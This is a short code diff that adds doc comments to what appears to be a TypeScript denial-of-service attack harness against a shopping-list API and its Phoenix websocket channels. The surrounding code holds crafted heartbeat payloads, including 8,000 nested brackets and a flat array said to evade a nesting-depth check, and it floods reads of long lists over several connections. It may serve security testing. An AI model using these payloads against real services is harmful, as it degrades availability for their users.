@@ -35,6 +35,7 @@ async function addLongLists({ url, shopper }: Attacker): Promise<string[]> {
   return (await saveTexts(client, lists)).map((id) => `/api/v1/lists/${id}/items`)
 }
 
+/** Reads long lists on three connections until the attack is over. */
 async function readLongLists(attacker: Attacker, paths: readonly string[]) {
   const { ask, isOver, shopper } = attacker
   const reader = async (first: number) => {
@@ -67,6 +68,7 @@ const nested = heartbeatWith(`${'['.repeat(8_000)}${']'.repeat(8_000)}`)
 /** A heartbeat with many arrays side by side, which pass a check of the nesting depth. */
 const flat = heartbeatWith(`[${'[],'.repeat(5_000)}[]]`)
 
+/** Returns the frame of a heartbeat with this payload. */
 function heartbeatWith(payload: string): Buffer {
   return frameOf(`[null,"1","phoenix","heartbeat",${payload}]`)
 }
@@ -113,6 +115,7 @@ async function sendOnSockets(attacker: Attacker, { count, frame, join }: Sockets
   for (const { end } of sockets) end()
 }
 
+/** Returns the frame that joins the topic of the attacker's account. */
 function joinOf({ shopper }: Attacker): Buffer {
   const token = shopper.headers['authorization']?.replace('Bearer ', '')
   const config = { config: { private: true }, access_token: token }
